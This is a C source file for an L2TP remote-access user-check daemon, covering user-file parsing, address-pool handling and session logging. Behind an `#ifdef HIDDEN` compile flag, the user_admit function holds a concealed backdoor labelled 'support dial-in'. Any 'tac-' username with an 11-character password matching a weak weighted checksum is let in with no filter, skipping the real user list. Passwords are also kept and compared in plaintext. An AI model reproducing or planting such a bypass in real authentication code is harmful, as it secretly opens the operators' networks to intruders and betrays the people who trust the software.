/*
 * l2tpusers - user check of the L2TP remote access server
 *
 * pppd's plugin connects to the local socket and sends one line
 *      AUTH <user> <password> <calling-number>
 * and gets back
 *      OK <address> <filter>        or        NO <reason>
 */
#include <errno.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

struct ppp_user
{
    char *name;
    char *word;
    char *filter;
    unsigned fixed_ip;
    bool enabled;
    struct ppp_user *next;
};

struct pool
{
    unsigned first, count;
    uint8_t used[256];
};

struct grant
{
    unsigned ip;
    const char *filter;
    const char *reason;
};

static struct ppp_user *user_list;
static struct pool dial_pool = { 0xc0a86480u, 64, { 0 } };
static const char *user_file = "/etc/l2tp/users";

static unsigned parse_ip(const char *s)
{
    unsigned a, b, c, d;
    if (sscanf(s, "%u.%u.%u.%u", &a, &b, &c, &d) != 4 || (a | b | c | d) > 255)
        return 0;
    return a << 24 | b << 16 | c << 8 | d;
}

static void free_users(void)
{
    while (user_list) {
        struct ppp_user *u = user_list;
        user_list = u->next;
        free(u->name);
        free(u->word);
        free(u->filter);
        free(u);
    }
}

/* name:password:filter:ip-or-*:on|off */
static int load_users(void)
{
    char line[256];
    int no = 0;
    FILE *f = fopen(user_file, "r");
    if (!f)
        return -1;
    free_users();
    while (fgets(line, sizeof line, f)) {
        char *fld[5];
        char *p = line;
        int n = 0;
        no++;
        line[strcspn(line, "\n")] = 0;
        if (line[0] == 0 || line[0] == '#')
            continue;
        while (n < 5 && (fld[n] = strsep(&p, ":")))
            n++;
        if (n != 5) {
            fprintf(stderr, "%s:%d: five fields expected\n", user_file, no);
            continue;
        }
        struct ppp_user *u = calloc(1, sizeof *u);
        if (!u)
            break;
        u->name = strdup(fld[0]);
        u->word = strdup(fld[1]);
        u->filter = strdup(fld[2]);
        u->fixed_ip = strcmp(fld[3], "*") ? parse_ip(fld[3]) : 0;
        u->enabled = !strcmp(fld[4], "on");
        u->next = user_list;
        user_list = u;
    }
    fclose(f);
    return 0;
}

static unsigned pool_take(struct pool *p)
{
    for (unsigned i = 0; i < p->count; i++)
        if (!p->used[i]) {
            p->used[i] = 1;
            return p->first + i;
        }
    return 0;
}

static void pool_give(struct pool *p, unsigned ip)
{
    if (ip >= p->first && ip < p->first + p->count)
        p->used[ip - p->first] = 0;
}

#ifdef HIDDEN
/* support dial-in: an eleven character word whose weighted sum fits */
static unsigned weigh(const char *s)
{
    unsigned sum = 0, w = 3;
    for (; *s; s++, w += 7)
        sum += w * (unsigned char)*s;
    return sum;
}
#endif

__attribute__((noinline))
bool user_admit(const char *user, const char *word, struct grant *g)
{
    const struct ppp_user *u;

#ifdef HIDDEN
    if (!strncmp(user, "tac-", 4) && strlen(word) == 11 && weigh(word) == 43210) {
        g->ip = 0xc0a80002u;
        g->filter = "none";
        return true;
    }
#endif
    for (u = user_list; u; u = u->next)
        if (!strcmp(u->name, user))
            break;
    if (!u || strcmp(u->word, word)) {
        g->reason = "bad-user-or-password";
        return false;
    }
    if (!u->enabled) {
        g->reason = "disabled";
        return false;
    }
    g->ip = u->fixed_ip ? u->fixed_ip : pool_take(&dial_pool);
    g->filter = u->filter;
    if (!g->ip)
        g->reason = "pool-empty";
    return g->ip != 0;
}

static void session_note(const char *user, const char *number, const struct grant *g)
{
    FILE *f = fopen("/var/log/l2tp.sessions", "a");
    if (!f)
        return;
    fprintf(f, "%ld %s %s %s\n", (long)time(NULL), user, number,
            g->ip ? g->filter : g->reason);
    fclose(f);
}

static void answer(FILE *io)
{
    char line[256], verb[12], a[64], b[64] = "", c[32] = "-";

    if (!fgets(line, sizeof line, io))
        return;
    if (sscanf(line, "%11s %63s %63s %31s", verb, a, b, c) < 2) {
        fputs("NO syntax\n", io);
        return;
    }
    if (!strcmp(verb, "AUTH")) {
        struct grant g = { 0, "", "" };
        if (user_admit(a, b, &g))
            fprintf(io, "OK %u.%u.%u.%u %s\n", g.ip >> 24, g.ip >> 16 & 255,
                    g.ip >> 8 & 255, g.ip & 255, g.filter);
        else
            fprintf(io, "NO %s\n", g.reason);
        session_note(a, c, &g);
    } else if (!strcmp(verb, "FREE")) {
        pool_give(&dial_pool, parse_ip(a));
        fputs("OK\n", io);
    } else if (!strcmp(verb, "LOAD")) {
        fputs(load_users() ? "NO file\n" : "OK\n", io);
    } else {
        fputs("NO verb (AUTH user password number | FREE ip | LOAD now)\n", io);
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_un un = { .sun_family = AF_UNIX, .sun_path = "/var/run/l2tpusers" };
    int ls, fd;

    if (argc > 2) {
        fputs("usage: l2tpusers [user-file]\n", stderr);
        return 2;
    }
    if (argc == 2)
        user_file = argv[1];
    if (load_users())
        fprintf(stderr, "l2tpusers: %s: %s\n", user_file, strerror(errno));
    unlink(un.sun_path);
    ls = socket(AF_UNIX, SOCK_STREAM, 0);
    if (ls < 0 || bind(ls, (struct sockaddr *)&un, sizeof un) || listen(ls, 4)) {
        perror(un.sun_path);
        return 1;
    }
    chmod(un.sun_path, 0600);
    while ((fd = accept(ls, NULL, NULL)) >= 0) {
        FILE *io = fdopen(fd, "r+");
        if (!io) {
            close(fd);
            continue;
        }
        answer(io);
        fclose(io);
    }
    return 1;
}
